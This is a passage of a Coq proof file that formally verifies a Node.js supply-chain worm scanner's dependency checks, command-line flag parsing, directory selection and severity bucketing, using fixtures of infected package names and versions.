  destruct (getProp (Some parsed) dep) as [section|]; [|intros []].
  destruct (truthy section); [|intros []].
  destruct (Object_entries section) as [entries|]; [|intros []].
  intros H. apply in_flat_map in H as [entry [_ H]].
  unfold dependencyFindings in H.
  destruct (Map_get infectedPackages (fst entry)) as [versions|];
    [|destruct H].
  destruct (snd entry) as [| | |s| |]; try (now destruct H).
  destruct H as [<-|[]].
  now destruct (Set_has versions (extractVersion s)).
Qed.

(** X18: whatever the file system holds, a finding of severity [INFO]
    is returned by [checkPackageJson], [checkPackageLock] or
    [checkNodeModules] only with [options.verbose], and it is then a
    [PARSE_ERROR] or a [READ_ERROR]. *)
Theorem info_findings_need_verbose
    (target : string) (findings : list Finding) (f : Finding)
    (Hreturns :
       checkPackageJson readFileSync JSON_parse target infectedPackages
         options = Ok findings
       \/ checkPackageLock readFileSync JSON_parse target infectedPackages
            options = Ok findings
       \/ checkNodeModules readFileSync JSON_parse existsSync path_join
            readdirSync target infectedPackages options = Ok findings)
    (Hin : In f findings)
    (Hinfo : severity f = INFO) :
  verbose options = true
  /\ (type f = PARSE_ERROR \/ type f = READ_ERROR).
Proof.
  destruct Hreturns as [H|[H|H]].
  - destruct (readJson readFileSync JSON_parse target) as [parsed|msg]
      eqn:Hread.
    + exfalso.
      destruct (checkPackageJson_exact _ _ _ _ _ _ _ Hread H)
        as [scripts [_ ->]].
      apply in_app_or in Hin as [Hin|Hin].
      * apply in_flat_map in Hin as [dep [_ Hin]].
        now apply sectionFindings_severity in Hin.
      * destruct (truthy scripts); [|destruct Hin].
        apply in_flat_map in Hin as [name [_ Hin]].
        apply scriptFindings_fields in Hin as [body [-> _]].
        discriminate Hinfo.
    + unfold checkPackageJson in H. rewrite Hread in H. injection H as <-.
      destruct (verbose options); [|destruct Hin].
      destruct Hin as [<-|[]]. split; [reflexivity | now left].
  - destruct (readJson readFileSync JSON_parse target) as [parsed|msg]
      eqn:Hread.
    + exfalso.
      destruct (checkPackageLock_exact _ _ _ _ _ _ _ Hread H)
        as [nested [-> Hnested]].
      apply in_app_or in Hin as [Hin|Hin].
      * apply in_flat_map in Hin as [[key info] [_ Hin]].
        unfold lockEntryFindings in Hin. cbn [fst snd] in Hin.
        destruct (isEmpty key); [destruct Hin|].
        apply In_lockedFindings in Hin as [v [_ [_ ->]]].
        discriminate Hinfo.
      * apply Hnested in Hin as [deps [name [info [_ [_ [_ Hin]]]]]].
        apply In_lockedFindings in Hin as [v [_ [_ ->]]].
        discriminate Hinfo.
    + unfold checkPackageLock in H. rewrite Hread in H. injection H as <-.
      destruct (verbose options); [|destruct Hin].
      destruct Hin as [<-|[]]. split; [reflexivity | now left].
  - destruct (readdirSync target) as [entries|msg] eqn:Hread.
    + apply (checkNodeModules_exact _ _ _ _ _ _ _ _ _ _ Hread H) in Hin.
      destruct Hin as [pkgName [pkgPath [_ [_ [_
                         [[pkgJson [v [_ [_ [_ ->]]]]]
                         |[msg [_ [Hverbose ->]]]]]]]]].
      * discriminate Hinfo.
      * split; [exact Hverbose | now left].
    + unfold checkNodeModules in H. rewrite Hread in H. injection H as <-.
      destruct (verbose options); [|destruct Hin].
      destruct Hin as [<-|[]]. split; [reflexivity | now right].
Qed.

End Reports.

Lemma checkPackageLock_findings_witness :
  In (infectedLockedPackage "infected-pkg" "1.0.0" "/tmp/t/package-lock.json")
    [infectedLockedPackage "infected-pkg" "1.0.0"
       "/tmp/t/package-lock.json"].
Proof.
  apply (proj2
           (checkPackageLock_findings (fun _ => Ok "{ ... }")
              (fun _ =>
                 Ok (JObject
                       [("lockfileVersion", JNumber 1);
                        ("dependencies",
                         JObject
                           [("a",
                             JObject
                               [("version", JString "1.0.0");
                                ("dependencies",
                                 JObject
                                   [("infected-pkg",
                                     JObject
                                       [("version", JString "1.0.0")])])])])]))
              "/tmp/t/package-lock.json" [("infected-pkg", ["1.0.0"])]
              (mkOptions false) _ _ eq_refl eq_refl)
           "infected-pkg" "1.0.0").
  split.
  - split; [reflexivity|]. now exists ["1.0.0"].
  - right.
    exists (JObject
              [("a",
                JObject
                  [("version", JString "1.0.0");
                   ("dependencies",
                    JObject
                      [("infected-pkg",
                        JObject [("version", JString "1.0.0")])])])]),
      (JObject [("version", JString "1.0.0")]).
    split; [reflexivity|]. split; [reflexivity|]. split; [|reflexivity].
    apply (locked_below _ "a"
             (JObject
                [("version", JString "1.0.0");
                 ("dependencies",
                  JObject
                    [("infected-pkg",
                      JObject [("version", JString "1.0.0")])])])
             (JObject
                [("infected-pkg", JObject [("version", JString "1.0.0")])]));
      [now left | reflexivity | apply locked_here; now left].
Defined.

Lemma checkPackageLock_reports_twice_witness :
  exists before between after,
    [infectedLockedPackage "evil" "6.6.6" "/repo/package-lock.json";
     infectedLockedPackage "evil" "6.6.6" "/repo/package-lock.json"]
    = (before ++ infectedLockedPackage "evil" "6.6.6"
                   "/repo/package-lock.json"
         :: between ++ infectedLockedPackage "evil" "6.6.6"
                         "/repo/package-lock.json" :: after)%list.
Proof.
  apply (checkPackageLock_reports_twice (fun _ => Ok "{ ... }")
           (fun _ =>
              Ok (JObject
                    [("lockfileVersion", JNumber 2);
                     ("packages",
                      JObject
                        [("", JObject [("name", JString "app")]);
                         ("node_modules/evil",
                          JObject [("version", JString "6.6.6")])]);
                     ("dependencies",
                      JObject
                        [("evil",
                          JObject [("version", JString "6.6.6")])])]))
           [("evil", ["6.6.6"])] (mkOptions false)
           "/repo/package-lock.json" _
           (JObject [("evil", JObject [("version", JString "6.6.6")])])
           _ "node_modules/evil" "evil" "6.6.6"
           (JObject [("version", JString "6.6.6")])
           (JObject [("version", JString "6.6.6")])
           eq_refl eq_refl).
  - split; [reflexivity|]. now exists ["6.6.6"].
  - right. now left.
  - discriminate.
  - reflexivity.
  - reflexivity.
  - reflexivity.
  - reflexivity.
  - apply locked_here. now left.
  - reflexivity.
Defined.

Lemma checkNodeModules_findings_witness :
  In (installedInfectedPackage "@scope/infected" "2.0.0"
        "/tmp/t/node_modules/@scope/infected")
    [installedInfectedPackage "@scope/infected" "2.0.0"
       "/tmp/t/node_modules/@scope/infected"].
Proof.
  apply (proj2
           (checkNodeModules_findings (fun _ => Ok "{ ... }")
              (fun _ => Ok (JObject [("version", JString "2.0.0")]))
              (fun _ => true) posix_join
              (fun p =>
                 if String.eqb p "/tmp/t/node_modules"
                 then Ok [("@scope", true); (".bin", true);
                          ("README.md", false)]
                 else if String.eqb p "/tmp/t/node_modules/@scope"
                 then Ok [("infected", true)]
                 else Throw "ENOENT")
              [("@scope/infected", ["2.0.0"])] (mkOptions false)
              "/tmp/t/node_modules" _ _ eq_refl eq_refl
              "@scope/infected" "2.0.0"
              "/tmp/t/node_modules/@scope/infected")).
  split.
  - apply (scoped_package posix_join _ "/tmp/t/node_modules"
             [("@scope", true); (".bin", true); ("README.md", false)]
             "@scope" [("infected", true)] "infected");
      [reflexivity | now left | reflexivity | reflexivity | now left].
  - split; [split; [reflexivity | now exists ["2.0.0"]]|].
    split; [reflexivity|].
    now exists (JObject [("version", JString "2.0.0")]).
Defined.

Lemma info_findings_need_verbose_witness :
  verbose (mkOptions true) = true
  /\ (type (parseError_file "/repo/package.json" "Unexpected end of input")
      = PARSE_ERROR
      \/ type (parseError_file "/repo/package.json" "Unexpected end of input")
         = READ_ERROR).
Proof.
  apply (info_findings_need_verbose (fun _ => Ok "{")
           (fun _ => Throw "Unexpected end of input") (fun _ => true)
           posix_join (fun _ => Throw "ENOENT") [] (mkOptions true)
           "/repo/package.json"
           [parseError_file "/repo/package.json" "Unexpected end of input"]
           (parseError_file "/repo/package.json" "Unexpected end of input")
           (or_introl eq_refl) (or_introl eq_refl) eq_refl).
Defined.

(** ** The command line *)

Section CommandLine.
Variable path_resolve : string -> string.
Variable cwd : string.

Lemma length_induction {A : Type} (P : list A -> Prop) :
  (forall l, (forall shorter, (List.length shorter < List.length l)%nat ->
                              P shorter) -> P l) ->
  forall l, P l.
Proof.
  intros Hstep l.
  assert (H : forall n shorter, (List.length shorter < n)%nat -> P shorter).
  { induction n as [|n IH]; intros shorter Hlen; [lia|].
    apply Hstep. intros l' Hl'. apply IH. lia. }
  apply (H (S (List.length l))). lia.
Qed.

Lemma not_a_flag (flags : list string) (arg : string) :
  forallb (fun flag => startsWith flag "-") flags = true ->
  startsWith arg "-" = false ->
  existsb (String.eqb arg) flags = false.
Proof.
  intros Hflags Harg. induction flags as [|flag flags IH]; [reflexivity|].
  cbn [forallb] in Hflags. apply andb_true_iff in Hflags as [Hflag Hrest].
  cbn [existsb]. rewrite (IH Hrest), orb_false_r.
  destruct (String.eqb_spec arg flag) as [->|_]; [congruence | reflexivity].
Qed.

Lemma given_cons (flags : list string) (arg : string) (args : list string) :
  WormBuster.given flags (arg :: args)
  = existsb (String.eqb arg) flags || WormBuster.given flags args.
Proof. reflexivity. Qed.

Ltac split_on_argument arg :=
  repeat match goal with
         | |- context [String.eqb arg ?flag] =>
             destruct (String.eqb_spec arg flag) as [->|?]
         end.

(** The shape of every proof about one option of [parseLoop]: the
    argument is one of the flags or none of them, and [-o] looks one
    argument ahead. *)
Ltac parse_cases IH :=
  let arg := fresh "arg" in
  let rest := fresh "rest" in
  let next := fresh "next" in
  let after := fresh "after" in
  let o := fresh "o" in
  let Hdash := fresh "Hdash" in
  let Hempty := fresh "Hempty" in
  intros o;
  match goal with
  | |- context [WormBuster.parseLoop _ ?args _] =>
      destruct args as [|arg rest]
  end;
  [ cbn; rewrite ?orb_false_r, ?app_nil_r; try reflexivity
  | cbn [WormBuster.parseLoop]; rewrite ?given_cons; cbn [existsb filter map];
    split_on_argument arg;
    cbn [String.eqb Ascii.eqb Bool.eqb orb andb negb startsWith];
    try match goal with
        | |- context [match rest with [] => _ | _ :: _ => _ end] =>
            destruct rest as [|next after];
            [ | destruct (isEmpty next) eqn:Hempty,
                  (startsWith next "-") eqn:Hdash ];
            cbn [negb andb]
        end;
    try match goal with
        | |- context [startsWith arg "-"] =>
            destruct (startsWith arg "-") eqn:Hdash; cbn [negb]
        end;
    rewrite ?IH by (cbn [List.length]; lia);
    cbn [WormBuster.help WormBuster.verbose WormBuster.json_output
         WormBuster.scanAll WormBuster.checkProcesses
         WormBuster.checkCredentials WormBuster.reportFormats
         WormBuster.outputDir WormBuster.directories
         WormBuster.format_json WormBuster.format_markdown
         WormBuster.format_html WormBuster.set_help WormBuster.set_verbose
         WormBuster.set_json WormBuster.set_scanAll
         WormBuster.set_checkProcesses WormBuster.set_checkCredentials
         WormBuster.set_markdown WormBuster.set_html
         WormBuster.set_outputDir WormBuster.push_directory];
    rewrite ?given_cons;
    try rewrite not_a_flag by (reflexivity || assumption);
    cbn [orb];
    rewrite ?orb_true_r, ?orb_false_r;
    try reflexivity ].

Lemma parseLoop_help (args : list string) :
  forall o,
    WormBuster.help (WormBuster.parseLoop path_resolve args o)
    = WormBuster.help o || WormBuster.given ["-h"; "--help"] args.
Proof.
  induction args as [args IH] using length_induction. parse_cases IH.
Qed.

Lemma parseLoop_verbose (args : list string) :
  forall o,
    WormBuster.verbose (WormBuster.parseLoop path_resolve args o)
    = WormBuster.verbose o || WormBuster.given ["-v"; "--verbose"] args.
Proof.
  induction args as [args IH] using length_induction. parse_cases IH.
Qed.

Lemma parseLoop_json (args : list string) :
  forall o,
    WormBuster.json_output (WormBuster.parseLoop path_resolve args o)
    = WormBuster.json_output o || WormBuster.given ["--json"] args.
Proof.
  induction args as [args IH] using length_induction. parse_cases IH.
Qed.

Lemma parseLoop_scanAll (args : list string) :
  forall o,
    WormBuster.scanAll (WormBuster.parseLoop path_resolve args o)
    = WormBuster.scanAll o || WormBuster.given ["--all"] args.
Proof.
  induction args as [args IH] using length_induction. parse_cases IH.
Qed.

Lemma parseLoop_checkProcesses (args : list string) :
  forall o,
    WormBuster.checkProcesses (WormBuster.parseLoop path_resolve args o)
    = WormBuster.checkProcesses o
      || WormBuster.given ["--processes"; "--full"] args.
Proof.
  induction args as [args IH] using length_induction. parse_cases IH.
Qed.

Lemma parseLoop_checkCredentials (args : list string) :
  forall o,
    WormBuster.checkCredentials (WormBuster.parseLoop path_resolve args o)
    = WormBuster.checkCredentials o
      || WormBuster.given ["--credentials"; "--full"] args.
Proof.
  induction args as [args IH] using length_induction. parse_cases IH.
Qed.

Lemma parseLoop_reportFormats (args : list string) :
  forall o,
    WormBuster.reportFormats o = WormBuster.mkReportFormats true true true ->
    WormBuster.reportFormats (WormBuster.parseLoop path_resolve args o)
    = WormBuster.mkReportFormats true true true.
Proof.
  induction args as [args IH] using length_induction.
  intros o Hall. revert o Hall.
  assert (Hstep :
            forall rest o,
              (List.length rest < List.length args)%nat ->
              WormBuster.reportFormats o
              = WormBuster.mkReportFormats true true true ->
              WormBuster.reportFormats
                (WormBuster.parseLoop path_resolve rest o)
              = WormBuster.mkReportFormats true true true)
    by (intros rest o Hlen; now apply IH).
  intros o Hall. destruct args as [|arg rest]; [exact Hall|].
  cbn [WormBuster.parseLoop].
  repeat match goal with
         | |- context [if ?b then _ else _] => destruct b
         | |- context [match ?l with [] => _ | _ :: _ => _ end] =>
             destruct l
         end;
    apply Hstep; try (cbn [List.length] in *; lia);
    try exact Hall; cbn; now rewrite Hall.
Qed.

(** X19: every switch of [parseArgs] is a membership test on the
    arguments after the first two, wherever the switch stands: an
    argument that [-o] takes as its value never begins with a dash, so no
    switch is swallowed.  [--full] sets what [--processes] and
    [--credentials] set.  The report formats are all enabled whatever the
    arguments are: [--report], [--markdown] and [--html] change
    nothing. *)
Theorem parseArgs_flags (argv : list string) :
  let args := skipn 2 argv in
  let options := WormBuster.parseArgs path_resolve cwd argv in
  WormBuster.help options = WormBuster.given ["-h"; "--help"] args
  /\ WormBuster.verbose options = WormBuster.given ["-v"; "--verbose"] args
  /\ WormBuster.json_output options = WormBuster.given ["--json"] args
  /\ WormBuster.scanAll options = WormBuster.given ["--all"] args
  /\ WormBuster.checkProcesses options
     = WormBuster.given ["--processes"; "--full"] args
  /\ WormBuster.checkCredentials options
     = WormBuster.given ["--credentials"; "--full"] args
  /\ WormBuster.reportFormats options
     = WormBuster.mkReportFormats true true true.
Proof.
  cbv zeta. unfold WormBuster.parseArgs.
  rewrite parseLoop_help, parseLoop_verbose, parseLoop_json,
    parseLoop_scanAll, parseLoop_checkProcesses, parseLoop_checkCredentials.
  repeat split. now apply parseLoop_reportFormats.
Qed.

Lemma parseLoop_positional (args : list string) :
  forall o,
    WormBuster.given ["--output"; "-o"] args = false ->
    WormBuster.directories (WormBuster.parseLoop path_resolve args o)
    = (WormBuster.directories o
       ++ map path_resolve
            (filter (fun arg => negb (startsWith arg "-")) args))%list
    /\ WormBuster.outputDir (WormBuster.parseLoop path_resolve args o)
       = WormBuster.outputDir o.
Proof.
  induction args as [|arg rest IH]; intros o Hno.
  - cbn. now rewrite app_nil_r.
  - rewrite given_cons in Hno. apply orb_false_iff in Hno as [Harg Hrest].
    cbn [existsb] in Harg. apply orb_false_iff in Harg as [Hlong Hshort].
    rewrite orb_false_r in Hshort.
    cbn [WormBuster.parseLoop filter]. rewrite Hlong, Hshort. cbn [orb].
    split_on_argument arg;
      cbn [String.eqb Ascii.eqb Bool.eqb orb andb negb startsWith];
      try (destruct (startsWith arg "-"); cbn [negb]);
      match goal with
      | |- context [WormBuster.parseLoop _ _ ?o'] =>
          destruct (IH o' Hrest) as [-> ->]
      end;
      cbn; rewrite <- ?app_assoc; now split.
Qed.

Lemma parseLoop_directories (args : list string) :
  forall o d,
    In d (WormBuster.directories (WormBuster.parseLoop path_resolve args o)) ->
    In d (WormBuster.directories o)
    \/ exists arg,
         In arg args /\ startsWith arg "-" = false /\ d = path_resolve arg.
Proof.
  induction args as [args IH] using length_induction. intros o d.
  destruct args as [|arg rest]; [now left|].
  cbn [WormBuster.parseLoop].
  repeat match goal with
         | |- context [if ?b then _ else _] => destruct b eqn:?
         | |- context [match ?l with [] => _ | _ :: _ => _ end] =>
             destruct l
         end;
    intros Hin; apply IH in Hin; try (cbn [List.length]; lia);
    cbn in Hin;
    (destruct Hin as [Hin|[a [Ha Hrest]]];
     [ first
         [ now left
         | apply in_app_or in Hin as [Hin|[<-|[]]]; [now left|];
           right; exists arg; split; [now left|]; split; [|reflexivity];
           match goal with
           | H : negb (startsWith arg "-") = true |- _ =>
               now apply negb_true_iff in H
           end ]
     | right; exists a; split; [|exact Hrest]; cbn; auto ]).
Qed.

(** X20: every directory of [parseArgs] is [path.resolve] of an argument
    that does not begin with a dash, and without [-o] and [--output]
    the directories are exactly those arguments, resolved, in their
    order, and the output directory is the current one. *)
Theorem parseArgs_directories (argv : list string) :
  let args := skipn 2 argv in
  let options := WormBuster.parseArgs path_resolve cwd argv in
  (forall d,
      In d (WormBuster.directories options) ->
      exists arg,
        In arg args /\ startsWith arg "-" = false /\ d = path_resolve arg)
  /\ (WormBuster.given ["--output"; "-o"] args = false ->
      WormBuster.directories options
      = map path_resolve (filter (fun arg => negb (startsWith arg "-")) args)
      /\ WormBuster.outputDir options = cwd).
Proof.
  cbv zeta. unfold WormBuster.parseArgs. split.
  - intros d Hin. apply parseLoop_directories in Hin as [[]|H]. exact H.
  - intros Hno.
    now destruct (parseLoop_positional (skipn 2 argv)
                    (WormBuster.defaults cwd) Hno) as [-> ->].
Qed.

End CommandLine.

Section Directories.
Variable cwd : string.
Variable homeDir : string.
Variable existsSync : string -> bool.
Variable path_join : string -> string -> string.

(** X21: [getDirectoriesToScan] never returns an empty list, and each
    directory it returns is one given on the command line or, when none
    is given, the current directory without [--all] and with [--all]
    the home directory or an existing common project directory below
    it. *)
Theorem getDirectoriesToScan_nonempty (options : WormBuster.CliOptions) :
  WormBuster.getDirectoriesToScan cwd homeDir existsSync path_join options
  <> []
  /\ forall dir,
       In dir (WormBuster.getDirectoriesToScan cwd homeDir existsSync
                 path_join options) ->
       In dir (WormBuster.directories options)
       \/ (WormBuster.directories options = []
           /\ if WormBuster.scanAll options
              then dir = homeDir
                   \/ (existsSync dir = true
                       /\ exists name,
                            In name WormBuster.COMMON_PROJECT_DIRS
                            /\ dir = path_join homeDir name)
              else dir = cwd).
Proof.
  unfold WormBuster.getDirectoriesToScan.
  destruct (WormBuster.directories options) as [|d ds] eqn:Hdirs.
  - cbn [List.length Nat.ltb Nat.leb].
    destruct (WormBuster.scanAll options).
    + set (found := flat_map _ _).
      assert (Hfound :
                forall dir, In dir found ->
                            existsSync dir = true
                            /\ exists name,
                                 In name WormBuster.COMMON_PROJECT_DIRS
                                 /\ dir = path_join homeDir name).
      { intros dir Hin. apply in_flat_map in Hin as [name [Hname Hin]].
        destruct (existsSync (path_join homeDir name)) eqn:E;
          [|destruct Hin].
        destruct Hin as [<-|[]]. split; [exact E | now exists name]. }
      destruct found as [|f fs]; cbn [List.length Nat.ltb Nat.leb].
      * split; [discriminate|]. intros dir [<-|[]]. right. split; auto.
      * split; [discriminate|]. intros dir Hin. right. split; auto.
    + split; [discriminate|]. intros dir [<-|[]]. right. now split.
  - cbn [List.length Nat.ltb Nat.leb]. split; [discriminate|].
    intros dir Hin. now left.
Qed.

End Directories.

(** ** The loop over the directories *)

Section ScanLoop.
Variable readFileSync : string -> result string.
Variable JSON_parse : string -> result json.
Variable existsSync : string -> bool.
Variable path_join : string -> string -> string.
Variable readdirSync : string -> result (list (string * bool)).
Variable listing : string -> option (list Dirent).
Variable infectedPackages : IOCDatabase.
Variable options : WormBuster.CliOptions.

Lemma sectionFindings_expected (v : bool) (filePath : string) (parsed : json)
    (dep : string) (f : Finding) :
  In f (sectionFindings filePath infectedPackages parsed dep) ->
  WormBuster.expected v f.
Proof.
  unfold sectionFindings.
  destruct (getProp (Some parsed) dep) as [section|]; [|intros []].
  destruct (truthy section); [|intros []].
  destruct (Object_entries section) as [entries|]; [|intros []].
  intros H. apply in_flat_map in H as [entry [_ H]].
  unfold dependencyFindings in H.
  destruct (Map_get infectedPackages (fst entry)) as [versions|];
    [|destruct H].
  destruct (snd entry) as [| | |s| |]; try (now destruct H).
  destruct H as [<-|[]].
  now destruct (Set_has versions (extractVersion s)).
Qed.

Lemma analyzerFor_expected (c : Candidate) (found : list Finding)
    (f : Finding) :
  WormBuster.analyzerFor readFileSync JSON_parse existsSync path_join
    readdirSync infectedPackages options c = Ok found ->
  In f found ->
  WormBuster.expected (WormBuster.verbose options) f.
Proof.
  unfold WormBuster.analyzerFor, WormBuster.analyzerOptions.
  destruct (c_type c); intros H Hin.
  - destruct (readdirSync (c_path c)) as [entries|msg] eqn:Hread.
    + apply (checkNodeModules_exact _ _ _ _ _ _ _ _ _ _ Hread H) in Hin.
      destruct Hin as [pkgName [pkgPath [_ [_ [_
                         [[pkgJson [v [_ [_ [_ ->]]]]]
                         |[msg [_ [Hverbose ->]]]]]]]]].
      * exact I.
      * exact Hverbose.
    + unfold checkNodeModules in H. rewrite Hread in H. injection H as <-.
      cbn [Analyzer.verbose] in Hin.
      destruct (WormBuster.verbose options); [|destruct Hin].
      now destruct Hin as [<-|[]].
  - destruct (readJson readFileSync JSON_parse (c_path c)) as [parsed|msg]
      eqn:Hread.
    + destruct (checkPackageJson_exact _ _ _ _ _ _ _ Hread H)
        as [scripts [_ ->]].
      apply in_app_or in Hin as [Hin|Hin].
      * apply in_flat_map in Hin as [dep [_ Hin]].
        now apply (sectionFindings_expected (WormBuster.verbose options))
          in Hin.
      * destruct (truthy scripts); [|destruct Hin].
        apply in_flat_map in Hin as [name [_ Hin]].
        now apply scriptFindings_fields in Hin as [body [-> _]].
    + unfold checkPackageJson in H. rewrite Hread in H. injection H as <-.
      cbn [Analyzer.verbose] in Hin.
      destruct (WormBuster.verbose options); [|destruct Hin].
      now destruct Hin as [<-|[]].
  - destruct (readJson readFileSync JSON_parse (c_path c)) as [parsed|msg]
      eqn:Hread.
    + destruct (checkPackageLock_exact _ _ _ _ _ _ _ Hread H)
        as [nested [-> Hnested]].
      apply in_app_or in Hin as [Hin|Hin].
      * apply in_flat_map in Hin as [[key info] [_ Hin]].
        unfold lockEntryFindings in Hin. cbn [fst snd] in Hin.
        destruct (isEmpty key); [destruct Hin|].
        now apply In_lockedFindings in Hin as [v [_ [_ ->]]].
      * apply Hnested in Hin as [deps [name [info [_ [_ [_ Hin]]]]]].
        now apply In_lockedFindings in Hin as [v [_ [_ ->]]].
    + unfold checkPackageLock in H. rewrite Hread in H. injection H as <-.
      cbn [Analyzer.verbose] in Hin.
      destruct (WormBuster.verbose options); [|destruct Hin].
      now destruct Hin as [<-|[]].
Qed.

Lemma In_pushFinding (b : WormBuster.Buckets) (g : Finding) (s : Severity)
    (f : Finding) :
  In f (WormBuster.bucket s (WormBuster.pushFinding b g))
  <-> In f (WormBuster.bucket s b) \/ (f = g /\ severity g = s).
Proof.
  unfold WormBuster.pushFinding.
  destruct (severity g) eqn:Hg, s; cbn [WormBuster.bucket
    WormBuster.critical WormBuster.warning WormBuster.info];
    rewrite ?in_app_iff; cbn [In]; split;
    try (intros [H|[H|[]]]; auto);
    try (intros [H|[H1 H2]]; auto; try discriminate H2);
    try (intros H; now left).
Qed.

Lemma In_pushFindings (found : list Finding) :
  forall (b : WormBuster.Buckets) (s : Severity) (f : Finding),
    In f (WormBuster.bucket s (fold_left WormBuster.pushFinding found b))
    <-> In f (WormBuster.bucket s b) \/ (In f found /\ severity f = s).
Proof.
  induction found as [|g found IH]; intros b s f; cbn [fold_left].
  - split; [now left | now intros [H|[[] _]]].
  - rewrite IH, In_pushFinding. cbn [In]. split.
    + intros [[H|[-> Hs]]|[H Hs]]; auto.
    + intros [H|[[->|H] Hs]]; auto.
Qed.

Lemma In_pushArtifacts (hits : list ArtifactHit) :
  forall (b : WormBuster.Buckets) (s : Severity) (f : Finding),
    In f (WormBuster.bucket s (fold_left WormBuster.pushArtifact hits b))
    <-> In f (WormBuster.bucket s b)
        \/ (s = CRITICAL /\ In f (map maliciousArtifact hits)).
Proof.
  induction hits as [|hit hits IH]; intros b s f; cbn [fold_left map].
  - split; [now left | now intros [H|[_ []]]].
  - rewrite IH. unfold WormBuster.pushArtifact.
    destruct s; cbn [WormBuster.bucket WormBuster.critical
      WormBuster.warning WormBuster.info In];
      rewrite ?in_app_iff; cbn [In]; split.
    + intros [[H|[<-|[]]]|[_ H]]; auto.
    + intros [H|[_ [<-|H]]]; auto.
    + intros [H|[H _]]; [now left | discriminate H].
    + intros [H|[H _]]; [now left | discriminate H].
    + intros [H|[H _]]; [now left | discriminate H].
    + intros [H|[H _]]; [now left | discriminate H].
Qed.

(** What one of the three loops over the candidates adds. *)
Lemma analyze_exact (files : list Candidate) :
  forall before after,
    WormBuster.analyze readFileSync JSON_parse existsSync path_join
      readdirSync infectedPackages options files before = Ok after ->
    forall s f,
      In f (WormBuster.bucket s after)
      <-> In f (WormBuster.bucket s before)
          \/ exists c found,
               In c files
               /\ WormBuster.analyzerFor readFileSync JSON_parse existsSync
                    path_join readdirSync infectedPackages options c
                  = Ok found
               /\ In f found /\ severity f = s.
Proof.
  unfold WormBuster.analyze.
  induction files as [|c files IH]; intros before after; cbn [forEach].
  - intros [= <-] s f. split; [now left|].
    now intros [H|[c [found [[] _]]]].
  - destruct (WormBuster.analyzerFor readFileSync JSON_parse existsSync
                path_join readdirSync infectedPackages options c)
      as [found|] eqn:Hfound; cbn [bind]; [|discriminate].
    intros Hrest s f. rewrite (IH _ _ Hrest s f), In_pushFindings. split.
    + intros [[H|[H Hs]]|[c' [found' [Hc' H]]]]; auto.
      * right. exists c, found. split; [now left|]. auto.
      * right. exists c', found'. split; [now right | exact H].
    + intros [H|[c' [found' [[<-|Hc'] [Hf [Hin Hs]]]]]]; auto.
      * rewrite Hfound in Hf. injection Hf as <-. auto.
      * right. now exists c', found'.
Qed.

Lemma hasType_own (c : Candidate) : WormBuster.hasType (c_type c) c = true.
Proof. unfold WormBuster.hasType. now destruct (c_type c). Qed.

Lemma scanDirectory_exact (dir : string) (before after : WormBuster.Buckets) :
  WormBuster.scanDirectory readFileSync JSON_parse existsSync path_join
    readdirSync listing infectedPackages options dir before = Ok after ->
  forall s f,
    In f (WormBuster.bucket s after)
    <-> In f (WormBuster.bucket s before)
        \/ WormBuster.found readFileSync JSON_parse existsSync path_join
             readdirSync listing infectedPackages options dir s f.
Proof.
  unfold WormBuster.scanDirectory, WormBuster.found.
  destruct (existsSync dir); cbn [negb].
  2:{ intros [= <-] s f. split; [now left|]. intros [H|[H _]]; auto.
      discriminate H. }
  cbv zeta.
  set (files := findPackageFiles path_join dir (listing dir)).
  destruct (WormBuster.analyze _ _ _ _ _ _ _
              (filter (WormBuster.hasType package_json) files) before)
    as [b1|] eqn:H1; cbn [bind]; [|discriminate].
  destruct (WormBuster.analyze _ _ _ _ _ _ _
              (filter (WormBuster.hasType package_lock_json) files) b1)
    as [b2|] eqn:H2; cbn [bind]; [|discriminate].
  destruct (WormBuster.analyze _ _ _ _ _ _ _
              (filter (WormBuster.hasType node_modules) files) b2)
    as [b3|] eqn:H3; cbn [bind]; [|discriminate].
  intros [= <-] s f.
  rewrite In_pushArtifacts, (analyze_exact _ _ _ H3), (analyze_exact _ _ _ H2),
    (analyze_exact _ _ _ H1).
  unfold artifactFindings. split.
  - intros [[[[H|H]|H]|H]|H]; auto;
      destruct H as [c [fs [Hc H]]]; apply filter_In in Hc as [Hc _];
      right; (split; [reflexivity|]); left; now exists c, fs.
  - intros [H|[_ [[c [fs [Hc H]]]|H]]]; [auto | | auto].
    assert (Hown := hasType_own c).
    destruct (c_type c) eqn:Htype.
    + left. right. exists c, fs. split; [|exact H].
      apply filter_In. now split.
    + left. left. left. right. exists c, fs. split; [|exact H].
      apply filter_In. now split.
    + left. left. right. exists c, fs. split; [|exact H].
      apply filter_In. now split.
Qed.

Lemma scanLoop_exact (dirs : list string) :
  forall before after,
    forEach dirs
      (WormBuster.scanDirectory readFileSync JSON_parse existsSync path_join
         readdirSync listing infectedPackages options) before = Ok after ->
    forall s f,
      In f (WormBuster.bucket s after)
      <-> In f (WormBuster.bucket s before)
          \/ exists dir,
               In dir dirs
               /\ WormBuster.found readFileSync JSON_parse existsSync
                    path_join readdirSync listing infectedPackages options
                    dir s f.
Proof.
  induction dirs as [|dir dirs IH]; intros before after; cbn [forEach].
  - intros [= <-] s f. split; [now left | now intros [H|[d [[] _]]]].
  - destruct (WormBuster.scanDirectory _ _ _ _ _ _ _ _ dir before)
      as [mid|] eqn:Hdir; cbn [bind]; [|discriminate].
    intros Hrest s f.
    rewrite (IH _ _ Hrest s f), (scanDirectory_exact _ _ _ Hdir s f). split.
    + intros [[H|H]|[d [Hd H]]]; auto.
      * right. exists dir. split; [now left | exact H].
      * right. exists d. split; [now right | exact H].
    + intros [H|[d [[<-|Hd] H]]]; auto.
      right. now exists d.
Qed.

(** X22: the findings of the loop of [scan] over the directories, when
    it returns.  A finding is in the list of severity [s] exactly when
    some listed directory exists and either an analyzer returned it,
    with that severity, for a candidate that [findPackageFiles] records
    in the directory, or [s] is [CRITICAL] and it is the
    [MALICIOUS_ARTIFACT] finding of a hit of [findMaliciousArtifacts]
    in the directory. *)
Theorem scanDirectories_findings
    (dirs : list string) (findings : WormBuster.Buckets)
    (Hreturns :
       WormBuster.scanDirectories readFileSync JSON_parse existsSync
         path_join readdirSync listing infectedPackages options dirs
       = Ok findings)
    (s : Severity) (f : Finding) :
  In f (WormBuster.bucket s findings)
  <-> exists dir,
        In dir dirs
        /\ existsSync dir = true
        /\ ((exists c found,
               In c (findPackageFiles path_join dir (listing dir))
               /\ WormBuster.analyzerFor readFileSync JSON_parse existsSync
                    path_join readdirSync infectedPackages options c
                  = Ok found
               /\ In f found /\ severity f = s)
            \/ (s = CRITICAL
                /\ exists hit,
                     In hit (findMaliciousArtifacts path_join dir
                               (listing dir))
